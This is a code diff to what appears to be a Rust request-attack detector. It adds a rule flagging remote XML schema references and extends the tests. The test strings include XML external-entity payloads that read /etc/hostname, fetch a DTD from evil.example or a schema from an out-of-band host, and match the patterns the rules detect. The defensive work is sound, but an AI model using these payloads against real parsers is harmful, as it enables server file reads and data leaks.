@@ -20,6 +20,14 @@ pub fn detector() -> RuleDetector {
                 r"<\s*xi:include\b|xmlns:xi\s*=\s*.http://www\.w3\.org/2001/xinclude",
                 "xinclude",
             ),
+            // Markup inside a parameter that names a remote schema: a validating parser
+            // fetches it (out-of-band probes use a unique host per request). XML bodies are
+            // split into attribute leaves by the extractor, so real documents never match.
+            Rule::new(
+                &["schemalocation"],
+                r#"<[a-z][^>]*\bxsi:(?:nonamespace)?schemalocation\s*=\s*["']?[^"'>]*\b(?:https?|ftp|file)://"#,
+                "remote xml schema",
+            ),
             Rule::new(
                 &["<!doctype"],
                 r"<!doctype\s+[^>\[]*\s(?:system|public)\s+['\x22][^'\x22]*(?:file:|https?:|ftp:|php:|expect:|jar:|gopher:)",
@@ -44,6 +52,7 @@ mod tests {
             "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><x>&e;</x>",
             "<!ENTITY % p PUBLIC \"x\" \"http://evil.example/p.dtd\">",
             "x!ENTITY % q SYSTEM",
+            "<r xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:noNamespaceSchemaLocation=\"http://oob.example/r.xsd\"/>",
             "<xi:include href=\"file:///etc/hostname\"/>",
         ] {
             assert!(hit(v), "{v}");
@@ -57,6 +66,7 @@ mod tests {
             "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">",
             "the entity system is public",
             "!entity",
+            "set xsi:schemaLocation to the schema URL",
         ] {
             assert!(!hit(v), "{v}");
         }
